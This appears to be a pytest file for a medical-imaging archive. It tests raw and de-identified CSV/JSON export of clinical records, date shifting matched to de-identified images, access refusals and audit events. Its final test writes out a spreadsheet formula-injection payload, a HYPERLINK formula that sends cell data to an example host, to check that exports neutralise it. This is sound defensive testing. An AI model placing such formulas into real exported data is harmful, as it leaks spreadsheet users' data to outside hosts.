"""Clinical records exported as CSV and JSON, as they are and de-identified by the same
pseudonyms as a de-identified image of the same subject."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable

import pytest
from sqlalchemy import select

from scandepot.access.actors import SYSTEM
from scandepot.catalog.access import AuditEvent, User
from scandepot.clinical import records
from scandepot.clinical.export import export
from scandepot.clinical.records import Target
from scandepot.context import Context
from scandepot.dicom.synthetic import Study
from scandepot.errors import Conflict, Invalid, NotFound, Unauthorized
from scandepot.export import deidentified
from tests.clinical.world import (
    PROFILE_BASIC,
    actor,
    archive_study,
    ids,
    make_subjects,
    save_export_script,
    set_schemas,
)

S1 = {
    "weight": 71.5,
    "diagnosis": "MCI",
    "smoker": True,
    "diagnosis_date": "2024-02-15",
    "notes": 'x, "y"',
}
S2 = {"age": 64, "diagnosis": "HC"}


@pytest.fixture
def project(ctx: Context, make_project: Callable[..., str]) -> str:
    label = make_project()
    set_schemas(ctx, label)
    make_subjects(ctx, label, "S2", "S3")
    return label


def test_csv_and_json(ctx: Context, project: str, users: dict[str, User]) -> None:
    archive_study(ctx, project, "S1", "E1", Study(PatientID="HOSP-1"), instances=1)
    records.put(ctx, SYSTEM, Target(project, "S1"), S1)
    records.put(ctx, SYSTEM, Target(project, "S2"), S2)
    records.put(ctx, SYSTEM, Target(project, "S3"), {"diagnosis": "AD"})
    records.delete(ctx, SYSTEM, Target(project, "S3"))
    records.put(ctx, SYSTEM, Target(project, session="E1"), {"mmse": 29})
    out = export(ctx, actor(users, "collaborator"), project)
    assert out.media_type.startswith("text/csv") and out.records == 2
    assert out.filename == f"{project}-clinical-subject.csv"
    rows = list(csv.reader(io.StringIO(out.content)))
    assert rows == [
        ["subject", "weight", "age", "diagnosis", "smoker", "diagnosis_date", "notes"],
        ["S1", "71.5", "", "MCI", "true", "2024-02-15", 'x, "y"'],
        ["S2", "", "64", "HC", "", "", ""],
    ]
    body = json.loads(export(ctx, SYSTEM, project, format="json").content)
    assert body["project"] == project and body["schema_version"] == 1
    assert body["variables"][0] == {"name": "weight", "type": "number", "unit": "kg"}
    assert body["variables"][4]["type"] == "date"
    assert [(r["subject"], r["version"], r["values"]) for r in body["records"]] == [
        ("S1", 1, S1),
        ("S2", 1, S2),
    ]
    sessions = list(csv.reader(io.StringIO(export(ctx, SYSTEM, project, level="session").content)))
    assert sessions == [["subject", "session", "mmse", "visit_date"], ["S1", "E1", "29", ""]]
    with ctx.db.read() as db:
        events = db.scalars(
            select(AuditEvent)
            .where(AuditEvent.action == "clinical.exported")
            .order_by(AuditEvent.id)
        ).all()
    assert [(e.actor_login, e.target, e.detail) for e in events][0] == (
        "collaborator",
        "clinical",
        {"format": "csv", "records": 2, "deidentified": False, "level": "subject"},
    )


def _image_out(
    ctx: Context, project: str, raw: bytes, subject: str, session: str
) -> tuple[str, str, str]:
    """One stored instance through the project's export script with the deid engine, as
    de-identified downloads send it: its Patient ID, Study Date, Study Instance UID."""
    with ctx.db.write() as db:
        deid = deidentified.load(db, ids(ctx, project, subject)[0], project)
    ds = deid.run(raw, subject=subject, session=session).dataset
    return str(ds.PatientID), str(ds.get("StudyDate") or ""), str(ds.StudyInstanceUID)


def test_deidentified_as_the_images(ctx: Context, project: str) -> None:
    with pytest.raises(Conflict, match="no export de-identification script"):
        export(ctx, SYSTEM, project, deidentified=True)
    save_export_script(ctx, project)
    one = archive_study(
        ctx, project, "S1", "E1", Study(PatientID="HOSP-1", StudyDate="20240301"), 1
    )
    two = archive_study(
        ctx, project, "S2", "E2", Study(PatientID="HOSP-2", StudyDate="20230101"), 1
    )
    records.put(ctx, SYSTEM, Target(project, "S1"), S1)
    records.put(ctx, SYSTEM, Target(project, "S2"), {**S2, "diagnosis_date": "2022-12-31"})
    records.put(
        ctx, SYSTEM, Target(project, session="E2"), {"mmse": 20, "visit_date": "2023-01-01"}
    )
    pid1, date1, _ = _image_out(ctx, project, one.files[0].read_bytes(), "S1", "E1")
    pid2, date2, uid2 = _image_out(ctx, project, two.files[0].read_bytes(), "S2", "E2")
    assert pid1 != pid2 and "HOSP" not in pid1 + pid2

    def moved(day: str, image_date: str, study_date: str) -> str:
        shift = dt.datetime.strptime(image_date, "%Y%m%d") - dt.datetime.strptime(
            study_date, "%Y%m%d"
        )
        return (dt.date.fromisoformat(day) + shift).isoformat()

    out = export(ctx, SYSTEM, project, deidentified=True)
    assert out.filename.endswith("-subject-deidentified.csv")
    rows = sorted(csv.reader(io.StringIO(out.content)))
    assert rows[-1] == ["patient_id", "weight", "age", "diagnosis", "smoker", "diagnosis_date"]
    by_pid = {r[0]: r for r in rows[:-1]}
    assert by_pid[pid1][5] == moved("2024-02-15", date1, "20240301")
    assert by_pid[pid2][5] == moved("2022-12-31", date2, "20230101")
    assert "S1" not in out.content and "x, " not in out.content
    body = json.loads(
        export(ctx, SYSTEM, project, format="json", level="session", deidentified=True).content
    )
    assert "project" not in body
    (record,) = body["records"]
    assert record == {
        "patient_id": pid2,
        "study_instance_uid": uid2,
        "schema_version": 1,
        "values": {"mmse": 20, "visit_date": moved("2023-01-01", date2, "20230101")},
    }
    # A script that removes dates: the dates stay in; the Patient ID is still the image's.
    save_export_script(ctx, project, PROFILE_BASIC)
    pid1_basic, date_basic, _ = _image_out(ctx, project, one.files[0].read_bytes(), "S1", "E1")
    assert date_basic == ""
    rows = list(csv.reader(io.StringIO(export(ctx, SYSTEM, project, deidentified=True).content)))
    assert [pid1_basic, "71.5", "", "MCI", "true", ""] in rows


def test_refused(
    ctx: Context, project: str, users: dict[str, User], make_project: Callable[..., str]
) -> None:
    with pytest.raises(Invalid, match="not a format"):
        export(ctx, SYSTEM, project, format="xlsx")
    with pytest.raises(NotFound):
        export(ctx, actor(users, "outsider"), project)
    with pytest.raises(Unauthorized):
        export(ctx, actor(users, "anonymous"), project)
    bare = make_project()
    with pytest.raises(NotFound, match="no clinical schema"):
        export(ctx, SYSTEM, bare)


def test_cells_a_spreadsheet_would_run_are_written_as_text(ctx: Context, project: str) -> None:
    """A text value that begins like a formula gets a leading apostrophe (a spreadsheet then
    shows it as text); other values stay as they are."""
    formula = '=HYPERLINK("http://example.org/?x="&A1,"open")'
    records.put(
        ctx, SYSTEM, Target(project, "S2"), {"notes": formula, "diagnosis": "AD", "weight": 70.5}
    )
    out = export(ctx, SYSTEM, project)
    rows = list(csv.DictReader(io.StringIO(out.content)))
    assert rows[0]["notes"] == "'" + formula and rows[0]["weight"] == "70.5"
    assert rows[0]["diagnosis"] == "AD"
    as_json = export(ctx, SYSTEM, project, format="json")
    exported = json.loads(as_json.content)["records"][0]["values"]
    assert exported["notes"] == formula  # JSON carries the value as it is
